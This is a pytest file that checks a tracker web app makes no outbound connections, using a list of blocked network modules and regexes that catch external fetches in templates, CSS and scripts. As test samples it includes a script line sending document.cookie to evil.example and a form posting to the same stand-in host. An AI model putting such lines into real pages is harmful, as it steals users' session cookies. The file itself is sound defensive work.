"""Nothing is fetched from outside: no code of ours can, and no page asks a browser to (S18).

An evidence link is shown and never followed, so nobody can make the tracker ask a server inside the council's network.
That a walk through it makes no connection is tests/web/test_offline.py.
"""

import ast
import re
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ("wsoa", "exports", "api", "migrations")
REACHING_OUT = frozenset(
    {
        *("urllib.request", "http.client", "ftplib", "smtplib", "imaplib", "poplib", "nntplib", "telnetlib"),
        *("xmlrpc", "socket", "ssl", "asyncio", "webbrowser", "requests", "httpx", "httpx2", "httpcore", "httpcore2"),
        *("aiohttp", "urllib3", "websockets", "websocket", "pycurl", "paramiko", "boto3", "grpc"),
    }
)
CLIENTS = {"requests", "httpx", "httpx2", "httpcore2", "aiohttp", "urllib3", "websockets", "pycurl", "sentry-sdk"}
PROGRAMS = {
    "wsoa/database/postgresql_tools.py": "pg_dump and pg_restore, to the database of the settings",
    "wsoa/limited/__init__.py": "this very program, to read a file that was brought",
}
"""Where another program is started, and which."""
STARTED = re.compile(r"\bsubprocess\.(run|Popen|call|check_\w+)\(|\bos\.(system|popen|exec\w+|spawn\w+|posix_spawn)\(")
FETCHED = re.compile(
    r"""<(?:script|img|iframe|source|object|embed|link|form|input|button|video|audio)\b[^>]*?"""
    r"""\s(?:src|srcset|href|action|formaction|data|poster)\s*=\s*["']\s*(?:https?:)?//""",
    re.IGNORECASE,
)
FETCHED_BY_STYLE = re.compile(r"""(?:url\(\s*["']?|@import\s+["'])(?:https?:)?//""", re.IGNORECASE)
FETCHED_BY_SCRIPT = re.compile(r"""\b(?:fetch|import|open|sendBeacon|WebSocket|EventSource)\s*\(\s*["'`](?:\w+:)?//""")


_ROOTS = re.compile(rf"\b({'|'.join(sorted({name.split('.')[0] for name in REACHING_OUT}))})\b")


def imported(source: str) -> set[str]:
    """The modules that a source names in its imports, with the packages they are in; none where no word is of them."""
    found: set[str] = set()
    if not _ROOTS.search(source):
        return found
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found |= {each.name for each in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found |= {node.module, *(f"{node.module}.{each.name}" for each in node.names)}
    return {".".join(name.split(".")[:length]) for name in found for length in range(1, name.count(".") + 2)}


def sources() -> dict[str, str]:
    """Every source that is shipped, by its path."""
    files = (file for folder in SHIPPED for file in (ROOT / folder).rglob("*.py"))
    return {str(file.relative_to(ROOT)): file.read_text() for file in files}


def test_no_shipped_module_can_reach_out() -> None:
    found = {path: sorted(imported(text) & REACHING_OUT) for path, text in sources().items()}
    assert len(found) > 300
    assert {path: names for path, names in found.items() if names} == {}


def test_other_programs_are_started_only_where_they_are_named() -> None:
    assert {path for path, text in sources().items() if STARTED.search(text)} == set(PROGRAMS)


@pytest.mark.parametrize(
    "source", ["import urllib.request", "from urllib import request", "from http.client import HTTPSConnection"]
)
def test_a_module_that_could_would_be_found(source: str) -> None:
    assert imported(source) & REACHING_OUT


def test_no_client_is_installed_with_the_tracker() -> None:
    locked = set(re.findall(r"^([a-z0-9-]+)==", (ROOT / "requirements.txt").read_text(), re.MULTILINE))
    assert "fastapi" in locked
    assert locked.isdisjoint(CLIENTS)


def test_no_page_style_or_script_names_anything_of_another_site() -> None:
    found = {
        str(file.relative_to(ROOT)): pattern.findall(file.read_text())
        for folder, kind, pattern in (
            ("templates", "*.html", FETCHED),
            ("api/static", "*.css", FETCHED_BY_STYLE),
            ("api/static", "*.js", FETCHED_BY_SCRIPT),
        )
        for file in (ROOT / folder).rglob(kind)
    }
    assert len(found) > 100
    assert {path: places for path, places in found.items() if places} == {}


@pytest.mark.parametrize(
    ("pattern", "bad"),
    [
        (FETCHED, '<script defer src="https://cdn.example/x.js"></script>'),
        (FETCHED, '<img alt="" src="//cdn.example/x.png">'),
        (FETCHED, '<form method="post" action="http://evil.example/">'),
        (FETCHED_BY_STYLE, "@font-face { src: url('https://fonts.example/a.woff2') }"),
        (FETCHED_BY_STYLE, '@import "//fonts.example/a.css"'),
        (FETCHED_BY_SCRIPT, 'await fetch("https://evil.example/?" + document.cookie)'),
    ],
)
def test_the_patterns_find_what_would_be_fetched(pattern: re.Pattern[str], bad: str) -> None:
    assert pattern.search(bad)
